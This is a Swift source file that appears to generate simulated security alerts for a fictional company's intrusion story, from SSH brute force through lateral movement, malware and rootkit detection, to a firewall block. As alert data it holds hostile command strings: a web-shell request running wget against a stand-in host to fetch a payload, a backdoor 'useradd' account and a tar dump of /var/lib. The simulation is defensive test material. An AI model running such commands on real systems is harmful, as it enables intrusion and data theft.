internal import JSON
internal import SimulatedCompany

/// The story of the last days: passwords are guessed until one works, and the intruder moves on from there.
struct Intrusion {
    let company: SimulatedCompany
    /// The reference time in milliseconds since 1970.
    let reference: Int
    private var maker: AlertMaker
    private let hashes: AlertMaker.FileHashes

    init(company: SimulatedCompany, reference: Int) {
        self.company = company
        self.reference = reference
        maker = AlertMaker(random: SeededGenerator(seed: company.seed, part: "intrusion"))
        hashes = maker.hashes()
    }

    /// All alerts of the story, in order.
    mutating func alerts() -> [AlertSketch] {
        guard let web = host("web-01"), let database = host("db-postgres-01"), let orders = host("app-orders-01") else {
            return []
        }
        return bruteForce(web) + foothold(web) + movement(from: web, to: [database, orders])
            + malware(on: [web, database]) + passwordSpray() + response(on: web)
    }

    private func host(_ name: String) -> SimulatedAgent? {
        company.agents.first { $0.name == name && $0.os?.family == .linux }
            ?? company.agents.first { $0.os?.family == .linux && $0.hasSynchronised && !$0.isManager }
    }

    /// A moment so many minutes before the reference time, some seconds later.
    private func at(_ minutesBefore: Int, _ seconds: Int = 0) -> Int {
        reference - minutesBefore * 60_000 + seconds * 1_000
    }

    private mutating func bruteForce(_ web: SimulatedAgent) -> [AlertSketch] {
        let intruder = ExternalHost.intruder
        var alerts: [AlertSketch] = []
        for attempt in 0..<320 {
            let user = attempt % 3 == 0 ? "root" : attempt % 3 == 1 ? "deploy" : "admin"
            let time = at(3_120, attempt * 8) + maker.random.number(0...900)
            let rule: AlertRule = user == "admin" ? .sshUnknownUser : .sshFailure
            alerts.append(maker.ssh(rule, web, time, user: user, from: intruder.ip, host: intruder))
            if attempt % 16 == 15 {
                alerts.append(maker.ssh(.sshBruteForce, web, time + 30, user: user, from: intruder.ip, host: intruder))
            }
        }
        let success = at(3_120, 320 * 8 + 5)
        alerts.append(maker.ssh(.sshSuccess, web, success, user: "deploy", from: intruder.ip, host: intruder))
        alerts.append(
            maker.ssh(.successAfterFailures, web, success + 20, user: "deploy", from: intruder.ip, host: intruder))
        return alerts
    }

    private mutating func foothold(_ web: SimulatedAgent) -> [AlertSketch] {
        [
            maker.sudo(web, at(3_070), user: "deploy", command: "/bin/bash", isFirst: true),
            maker.sudo(web, at(3_069), user: "deploy", command: "/usr/sbin/useradd -m -s /bin/bash svc-backup"),
            maker.newUser(web, at(3_069, 1), user: "svc-backup"),
            maker.file(.fileChanged, web, at(3_069, 2), path: "/etc/passwd"),
            maker.file(.fileChanged, web, at(3_069, 2), path: "/etc/shadow"),
            maker.file(.fileChanged, web, at(3_060), path: "/etc/ssh/sshd_config"),
            maker.file(.fileAdded, web, at(3_055), path: "/var/www/html/uploads/shell.php", user: "www-data"),
            maker.web(
                .webAttackSucceeded, web, at(3_050), from: .intruder,
                url: "/uploads/shell.php?cmd=wget%20http://203.0.113.66/kworkerds", status: 200),
        ]
    }

    private mutating func movement(from web: SimulatedAgent, to targets: [SimulatedAgent]) -> [AlertSketch] {
        var alerts: [AlertSketch] = []
        for (number, target) in targets.enumerated() {
            let start = 2_980 - number * 95
            for attempt in 0..<6 {
                alerts.append(maker.ssh(.sshFailure, target, at(start, attempt * 4), user: "deploy", from: web.ip))
            }
            alerts += [
                maker.ssh(.sshSuccess, target, at(start, 40), user: "deploy", from: web.ip),
                maker.sudo(target, at(start - 2), user: "deploy", command: "/bin/bash", isFirst: true),
                maker.sudo(
                    target, at(start - 3), user: "deploy", command: "/usr/bin/tar czf /tmp/.x/dump.tgz /var/lib"),
                maker.newUser(target, at(start - 4), user: "svc-backup"),
                maker.file(.fileChanged, target, at(start - 4, 1), path: "/etc/passwd"),
            ]
        }
        return alerts
    }

    private mutating func malware(on hosts: [SimulatedAgent]) -> [AlertSketch] {
        var alerts: [AlertSketch] = []
        for (number, agent) in hosts.enumerated() {
            let start = 2_700 - number * 180
            let path = "/tmp/.x/kworkerds"
            alerts += [
                maker.file(.fileAdded, agent, at(start), path: path, hashes: hashes),
                maker.virusTotal(agent, at(start, 4), path: path, hashes: hashes, positives: 47),
                maker.rootcheck(
                    agent, at(start - 30), title: "Process '4711' hidden from /proc. Possible kernel level rootkit.",
                    file: nil),
                maker.rootcheck(
                    agent, at(start - 31), title: "Trojaned version of file '/usr/bin/ps' detected.",
                    file: "/usr/bin/ps"),
                maker.file(.fileChanged, agent, at(start - 32), path: "/usr/bin/ps"),
            ]
        }
        return alerts
    }

    /// Guessing on the domain controller, without success.
    private mutating func passwordSpray() -> [AlertSketch] {
        guard let controller = company.agents.first(where: { $0.os?.family == .windows && $0.hasSynchronised }) else {
            return []
        }
        let source = host("app-orders-01")?.ip ?? "10.20.30.14"
        var alerts: [AlertSketch] = []
        for attempt in 0..<48 {
            let user = BackgroundActivity.users[attempt % 12]
            let time = at(2_400, attempt * 3)
            alerts.append(maker.windows(.windowsLogonFailure, controller, time, user: user, from: source))
            if attempt % 8 == 7 {
                alerts.append(maker.windows(.windowsLogonFailures, controller, time + 10, user: user, from: source))
            }
        }
        return alerts
    }

    private func response(on web: SimulatedAgent) -> [AlertSketch] {
        [
            AlertSketch(
                rule: .hostBlocked, agent: web, time: at(2_280), location: "/var/ossec/logs/active-responses.log",
                log: "active-response/bin/firewall-drop: Starting srcip \(ExternalHost.intruder.ip)",
                data: [
                    "srcip": .string(ExternalHost.intruder.ip), "origin": ["name": "node01", "module": "wazuh-execd"],
                ])
        ]
    }
}
